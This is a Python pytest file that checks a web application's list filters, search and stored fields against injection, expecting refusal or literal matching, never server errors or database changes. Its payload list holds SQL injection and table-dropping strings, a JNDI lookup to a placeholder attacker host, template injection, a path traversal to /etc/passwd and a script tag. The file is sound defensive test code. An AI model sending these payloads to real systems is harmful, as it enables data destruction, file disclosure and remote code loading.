"""Injection through list parameters (sort, order, filters, search) and stored text: never a 5xx,
never more rows than asked for, never a changed database. Runs on SQLite and PostgreSQL (``-m db``)."""

from __future__ import annotations

import re

import httpx
import pytest

from tests.support import Account
from tests.test_records import create

pytestmark = pytest.mark.db

PAYLOADS = [
    "' OR '1'='1",
    "1 OR 1=1",
    "x'; DROP TABLE assets; --",
    "name; DELETE FROM users",
    "name desc, (SELECT 1)",
    '") OR 1=1 --',
    "%",
    "_",
    "\\",
    "\x00",
    "id\x00",
    "😀" * 50,
    "a" * 5000,
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
]
LIST_PARAMETERS = {
    "assets": ["sort", "order", "q", "status", "risk", "category", "department", "assignedTechnicianId", "page"],
    "documents": ["sort", "order", "q", "assetId", "leadId", "department", "state"],
    "leads": ["sort", "order", "q", "stage", "department", "perPage"],
}
SAMPLE_QUERIES = [
    ("/api/mail-app/mails", "labelHandle"),
    ("/api/mail-app/mails", "filterHandle"),
    ("/api/mail-app/mails", "folderHandle"),
    ("/api/mail-app/mail", "mailId"),
    ("/api/todo-app/todos", "labelHandle"),
    ("/api/todo-app/todos", "folderHandle"),
    ("/api/search", "q"),
    ("/api/academy-app/course", "courseId"),
    ("/api/invoices/get-invoice", "id"),
    ("/api/scrumboard-app/board", "boardId"),
    ("/api/e-commerce-app/product", "productId"),
    ("/api/contacts-app/contacts", "id"),
    ("/api/chat/get-chat", "contactId"),
    ("/api/chat/messages", "chatId"),
]


async def _totals(client: httpx.AsyncClient, who: Account) -> dict[str, int]:
    return {
        name: (await client.get(f"/{name}", headers=who.headers, params={"perPage": 1})).json()["total"]
        for name in LIST_PARAMETERS
    }


@pytest.mark.parametrize("resource", sorted(LIST_PARAMETERS))
async def test_list_parameters_refuse_or_match_literally(
    resource: str, staff: dict[str, Account], client: httpx.AsyncClient
) -> None:
    who = staff["contractor"]
    before = await _totals(client, who)
    for parameter in LIST_PARAMETERS[resource]:
        for payload in PAYLOADS:
            answer = await client.get(f"/{resource}", headers=who.headers, params={parameter: payload})
            assert answer.status_code in (200, 422), (parameter, payload, answer.status_code, answer.text[:300])
            if answer.status_code == 422:
                assert parameter in answer.json()["errors"], (parameter, answer.text[:300])
            elif parameter == "q":
                # Search text is words and nothing else: the payload finds exactly what its words
                # alone find (quotes, operators and wildcards change nothing).
                words = " ".join(re.findall(r"[^\W_]+", payload))
                found = [i["id"] for i in answer.json()["items"]]
                if not words:
                    assert found == [], (payload, found[:3])
                else:
                    alone = await client.get(f"/{resource}", headers=who.headers, params={parameter: words})
                    assert found == [i["id"] for i in alone.json()["items"]], (payload, found[:3])
    assert await _totals(client, who) == before


async def test_stored_injection_text_is_data(staff: dict[str, Account], client: httpx.AsyncClient) -> None:
    manager = staff["manager"]
    name = "Robert'); DROP TABLE assets;-- <script>alert(1)</script>"
    made = await create(client, manager, "assets", name=name, notes="' OR 1=1 --")
    again = (await client.get(f"/assets/{made['id']}", headers=manager.headers)).json()
    assert again["name"] == name and again["notes"] == "' OR 1=1 --"
    found = (await client.get("/assets", headers=manager.headers, params={"q": "DROP TABLE assets;--"})).json()
    assert [item["id"] for item in found["items"]] == [made["id"]]


@pytest.mark.parametrize(("path", "parameter"), SAMPLE_QUERIES)
async def test_sample_area_parameters_never_fail(
    path: str, parameter: str, staff: dict[str, Account], client: httpx.AsyncClient
) -> None:
    for payload in PAYLOADS:
        answer = await client.get(path, headers=staff["technician"].headers, params={parameter: payload})
        assert answer.status_code < 500, (payload, answer.status_code, answer.text[:300])
        assert answer.status_code in (200, 404, 422), (payload, answer.status_code, answer.text[:300])


async def test_nul_characters_are_refused_everywhere(staff: dict[str, Account], client: httpx.AsyncClient) -> None:
    # PostgreSQL text and JSON columns cannot hold NUL: it must be a 422 before any query, not a 500.
    manager = staff["manager"]
    in_query = await client.get("/assets", headers=manager.headers, params={"q": "pump\x00", "sort": "name"})
    assert in_query.status_code == 422 and in_query.json()["errors"] == {"q": "May not contain NUL characters."}
    in_path = await client.get("/api/quick-panel/notes/x%00y", headers=manager.headers)
    assert in_path.status_code == 422
    for path, body in [
        ("/assets", {"tag": "NUL-1", "name": "a\x00b", "category": "Power", "department": "Hardware"}),
        ("/api/notes-app/create-note", {"note": {"title": "x", "description": "\x00"}}),
        ("/api/chat/send-message", {"chatId": "1", "message": {"message": "hi\x00"}}),
    ]:
        answer = await client.post(path, headers=manager.headers, json=body)
        assert answer.status_code == 422, (path, answer.text)
        assert answer.json()["message"] == "Text may not contain NUL characters."
    nested = await client.patch("/me", headers=manager.headers, json={"settings": {"theme": {"k\x00": 1}}})
    assert nested.status_code == 422
    # A backslash followed by u0000 as plain text is not a NUL and stays allowed.
    fine = await client.get("/assets", headers=manager.headers, params={"q": "\\u0000"})
    assert fine.status_code == 200
